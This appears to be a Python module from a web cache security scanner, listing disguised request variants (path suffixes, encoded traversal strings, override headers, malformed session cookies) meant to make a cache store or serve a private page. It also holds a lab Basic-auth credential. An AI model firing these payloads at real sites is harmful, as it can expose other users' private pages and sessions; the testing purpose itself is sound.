"""Dangerous addresses, as data: a private page, dressed up so that a cache might take it for a
public one, or might keep it under a key that somebody else asks for.

`{path}` is the private address, `{bare}` the same without its last slash, `{inner}` without its
first, `{coded}` with its inner slashes encoded.
"""

from __future__ import annotations

from collections.abc import Iterable

from .asking import Probe

ADDRESSES = (
    # Web cache deception: the end says that it is a file.
    "{bare}.css",
    "{path}x.css",
    "{bare}/x.css",
    "{bare};x.css",
    "{bare};x=.css",
    "{path}?x.css",
    "{bare}%2ecss",
    "{bare}%3fx.css",
    "{bare}%23x.css",
    "{bare}%00.css",
    "{bare}%0a.css",
    # The beginning says so.
    "/static/..%2f{inner}",
    "/static/%2e%2e/{inner}",
    "/static/../{inner}",
    "/static/..;/{inner}",
    "/media/..%2f{inner}",
    "/static//{inner}",
    "/STATIC/../{inner}",
    # Normalised by one layer and not by another.
    "/{path}",
    "/.{path}",
    "/x/..{path}",
    "/%2e{path}",
    "/{coded}",
    "{bare}",
    "{bare}/",
    "{bare}//",
    "{bare}/.",
    "{bare}%2f",
    "{bare}%20",
    # Another key for the same page, or the same key for another.
    "{path}?utm_source=x",
    "{path}?sessionid=none",
    "{path}?next=/static/x.css",
    "http://localhost{path}",
    "http://localhost/static/../{inner}",
)

HEADERS: tuple[tuple[tuple[str, str], ...], ...] = (
    (("X-Forwarded-Host", "static.example"),),
    (("X-Original-URL", "/static/x.css"),),
    (("X-Rewrite-URL", "/static/x.css"),),
    (("X-Forwarded-Prefix", "/static"),),
    (("X-HTTP-Method-Override", "HEAD"),),
    (("Authorization", "Basic ZWRpdG9yOmxhYi1lZGl0b3I="),),  # editor:lab-editor
    (("Accept-Encoding", "gzip"),),
    (("Accept", "text/css"),),
    (("Range", "bytes=0-"),),
    (("If-None-Match", "*"),),
    (("If-Modified-Since", "Fri, 01 Jan 2100 00:00:00 GMT"),),
    (("Cache-Control", "only-if-cached, max-stale"),),
    (("X-Edge-Stale", "serve"),),
    (("Surrogate-Capability", 'edge="ESI/1.0"'),),
)

# A session that one layer sees and another does not.
COOKIES = (
    "sessionid ={session}",
    "theme=dark;sessionid={session}",
    "theme=dark;\tsessionid={session}",
    'sessionid="{session}"',
    "theme=dark, sessionid={session}",
    "SESSIONID={session}",
    "sessionid={session}; sessionid=none",
    "sessionid=none; sessionid={session}",
    "x; sessionid={session}",
    "$Version=1; sessionid={session}",
)

METHODS = ("HEAD", "OPTIONS")


def dressed(path: str) -> list[Probe]:
    """All disguises of one private address."""
    bare, inner = path.rstrip("/"), path.lstrip("/")
    words = {"path": path, "bare": bare, "inner": inner, "coded": inner.replace("/", "%2f")}
    return [
        *(Probe(address.format(**words)) for address in ADDRESSES),
        *(Probe(path, method) for method in METHODS),
        *(Probe(path, headers=headers) for headers in HEADERS),
        *(Probe(path, cookie=cookie) for cookie in COOKIES),
    ]


def disguised_sessions(paths: Iterable[str]) -> list[Probe]:
    """Public pages, which a cache may keep, asked with a session it might overlook."""
    return [Probe(path, cookie=cookie) for path in paths for cookie in COOKIES]
